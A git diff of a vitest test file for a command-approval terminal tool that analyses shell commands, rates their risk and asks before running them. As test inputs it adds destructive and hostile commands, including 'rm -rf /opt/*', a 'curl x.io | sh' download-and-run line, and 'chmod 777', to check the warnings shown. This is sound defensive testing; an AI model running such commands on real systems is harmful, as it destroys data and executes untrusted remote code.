@@ -1,5 +1,6 @@
 import { existsSync } from 'node:fs';
 import { join } from 'node:path';
+import { stripVTControlCharacters } from 'node:util';
 import { describe, expect, test } from 'vitest';
 import { emptyDirectory, noTerminal, startOnPipes, startOnTerminal } from './start-quickstart.js';
 
@@ -16,9 +17,12 @@ describe.skipIf(noTerminal)('on a terminal', () => {
     const { stdout, code } = await started.ended;
     expect(code).toBe(0);
     expect(stdout).toContain('This needs your approval');
-    expect(stdout).toContain("Not on this example's list of harmless commands.");
+    // One word of its own is as long as a path may be, so the reason is broken.
+    expect(stripVTControlCharacters(stdout).replace(/[\s┃]+/g, ' ')).toMatch(
+      /command chmod 777 release\.txt why Lets everybody change \/\S+\/release\.txt\. risk 0\.\d\d of 1 on localhost, in \//,
+    );
     expect(stdout).toContain('localhost, in /');
-    expect(stdout).toContain('propose › gate › approve › execute › record');
+    expect(stdout).toContain('propose › analyse › assess › gate › approve › execute › record');
     expect(stdout).toContain(`${control}[32m✔ succeeded`);
     expect(stdout).toContain('approved by ');
   });
@@ -26,7 +30,7 @@ describe.skipIf(noTerminal)('on a terminal', () => {
   // An n, nothing, a word that only begins like yes, and Ctrl-D.
   test.for(['n\n', '\n', 'yeah\n', '\u0004'])('does not run it after %j', async (typed) => {
     const directory = emptyDirectory();
-    const started = startOnTerminal(directory, ['touch ran']);
+    const started = startOnTerminal(directory, ['touch ran; chmod 777 ran']);
     await started.shows(prompt);
     started.process.stdin?.write(typed);
     const { stdout, code } = await started.ended;
@@ -36,7 +40,7 @@ describe.skipIf(noTerminal)('on a terminal', () => {
     expect(existsSync(join(directory, 'ran'))).toBe(false);
   });
 
-  test.for([[[]], [['touch ran']]])(
+  test.for([[[]], [['touch ran; chmod 777 ran']]])(
     'Ctrl-C at the question is no answer but an interruption, with %j',
     async ([args = []]) => {
       const directory = emptyDirectory();
@@ -53,11 +57,16 @@ describe.skipIf(noTerminal)('on a terminal', () => {
 
   test('shows the whole of a long command before asking', async () => {
     const words = Array.from({ length: 40 }, (_, index) => `word-${index}`);
-    const started = startOnTerminal(emptyDirectory(), [`echo ${words.join(' ')}`], { NO_COLOR: '1' });
+    const started = startOnTerminal(emptyDirectory(), [`rm -rf ${words.join(' ')}; rm -rf /opt/*; curl x.io | sh`], {
+      NO_COLOR: '1',
+    });
     await started.shows(prompt);
     started.process.stdin?.write('n\n');
     const { stdout } = await started.ended;
     const question = stdout.slice(stdout.indexOf('This needs'), stdout.indexOf(prompt));
+    // Also in plain language, with the worst of it first among the reasons.
+    const told = question.replace(/[\s┃]+/g, ' ');
+    expect(told).toMatch(/ does Deletes .* Then downloads from x\.io\. .* why • “sh”: Runs what was downloaded\. • /);
     for (const word of words) expect(question).toMatch(new RegExp(`\\b${word}\\b`));
     for (const line of question.split('\r\n')) expect(line.length).toBeLessThanOrEqual(80);
   });
@@ -75,7 +84,7 @@ describe.skipIf(noTerminal)('on a terminal', () => {
 
   test('Ctrl-C ends the command that runs, and the history knows it', async () => {
     const directory = emptyDirectory();
-    const started = startOnTerminal(directory, ['touch begun; sleep 60; touch survived']);
+    const started = startOnTerminal(directory, ['touch begun; chmod 777 begun; sleep 60; touch survived']);
     await started.shows(prompt);
     started.process.stdin?.write('y\n');
     await expect.poll(() => existsSync(join(directory, 'begun')), { timeout: 20_000 }).toBe(true);
@@ -86,15 +95,15 @@ describe.skipIf(noTerminal)('on a terminal', () => {
     expect(stdout).toContain('Interrupted');
 
     const next = await startOnPipes(directory, []).ended;
-    expect(next.stdout).toMatch(/touch begun; sleep 60.*■ cancelled/);
+    expect(next.stdout).toMatch(/touch begun; chmod 777.*■ cancelled/);
   });
 
   test('a command of your own that takes too long is ended', async () => {
     const started = startOnTerminal(emptyDirectory(), ['--timeout', '0.3', 'sleep 60']);
-    await started.shows(prompt);
-    started.process.stdin?.write('y\n');
     const { stdout, code } = await started.ended;
     expect(code).toBe(4);
+    // Nothing in it is risky: nobody was asked.
+    expect(stdout).not.toContain(prompt);
     expect(stdout).toContain('◷ timed-out');
   });
 
@@ -115,6 +124,10 @@ describe.skipIf(noTerminal)('on a terminal', () => {
     await started.shows(prompt);
     started.process.stdin?.write('n\n');
     const { stdout } = await started.ended;
+    const fifth = stdout.slice(stdout.indexOf('5/5'), stdout.indexOf(prompt)).split('\r\n');
+    // But for a path in it, which is left whole.
+    const broken = fifth.map((line) => line.split(erase).at(-1)).filter((line) => !line?.includes('/opspilot-'));
+    for (const line of broken) expect(line?.length).toBeLessThanOrEqual(44);
     const table = stdout.slice(stdout.indexOf(' #  command'), stdout.indexOf('Every command'));
     // The five rows, and what stands below them.
     expect(table.split('\r\n').length).toBeGreaterThan(10);
